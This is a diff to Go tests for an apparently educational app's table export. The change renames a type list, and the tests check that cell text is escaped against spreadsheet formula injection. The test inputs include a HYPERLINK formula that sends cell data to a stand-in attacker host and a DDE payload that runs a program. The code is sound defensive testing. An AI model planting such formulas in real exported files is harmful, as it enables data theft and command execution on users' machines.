@@ -59,7 +59,7 @@ func TestATableHasARowForEachStudent(t *testing.T) {
 			t.Errorf("%s is %q, want %q", column, got, want)
 		}
 	}
-	if len(table[0]) != 8+2*len(app.ConceptTypes) || table[1]["begun"] != "0" || table[1]["last change (UTC)"] != "" {
+	if len(table[0]) != 8+2*len(app.FamilyTypes()) || table[1]["begun"] != "0" || table[1]["last change (UTC)"] != "" {
 		t.Errorf("the table is %v", table)
 	}
 }
@@ -70,7 +70,7 @@ func TestATableHoldsNoFormulas(t *testing.T) {
 	ann := museum.NewMember(t, "ann@example.com")
 	texts := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "=cmd|' /C calc'!A0", "|x", "%x", "harmless - and = within", "'quoted", "y=x", "−2"}
 	for i, text := range texts {
-		answer := ann.Send("POST", "/api/tiles/", map[string]any{"concept_type": app.ConceptTypes[i], "description": text})
+		answer := ann.Send("POST", "/api/tiles/", map[string]any{"concept_type": app.FamilyTypes()[i], "description": text})
 		if answer.Status != 201 {
 			t.Fatalf("%q: %s", text, answer.Body)
 		}
@@ -80,7 +80,7 @@ func TestATableHoldsNoFormulas(t *testing.T) {
 	row := readTable(t, museum.Store)[0]
 	texts[0] = "  =1+1"
 	for i, text := range texts {
-		got, want := row[app.ConceptTypes[i]+" notes"], text
+		got, want := row[app.FamilyTypes()[i]+" notes"], text
 		if !slices.Contains([]string{"harmless - and = within", "'quoted", "y=x", "−2"}, text) {
 			want = "'" + text
 		}
@@ -109,7 +109,7 @@ func TestATableHoldsNoFormulasForOtherSeparators(t *testing.T) {
 	museum := apptest.NewMuseum(t)
 	ann := museum.NewMember(t, "ann@example.com")
 	for i, text := range []string{"a;=HYPERLINK(1)", "a; \u00a0+1", "a\t=1", "one\n=2\n- three", "a;;@x", "b;\"=4", "x;%y;|z", "(3, -2)"} {
-		answer := ann.Send("POST", "/api/tiles/", map[string]any{"concept_type": app.ConceptTypes[i], "description": text})
+		answer := ann.Send("POST", "/api/tiles/", map[string]any{"concept_type": app.FamilyTypes()[i], "description": text})
 		if answer.Status != 201 {
 			t.Fatalf("%q: %s", text, answer.Body)
 		}
@@ -123,7 +123,7 @@ func TestATableHoldsNoFormulasForOtherSeparators(t *testing.T) {
 			t.Errorf("a cell is %q", cell)
 		}
 	}
-	if row := readTable(t, museum.Store)[0]; row[app.ConceptTypes[7]+" notes"] != "(3, -2)" || row[app.ConceptTypes[3]+" notes"] != "one\n'=2\n'- three" {
+	if row := readTable(t, museum.Store)[0]; row[app.FamilyTypes()[7]+" notes"] != "(3, -2)" || row[app.FamilyTypes()[3]+" notes"] != "one\n'=2\n'- three" {
 		t.Errorf("the notes are %q", row)
 	}
 }
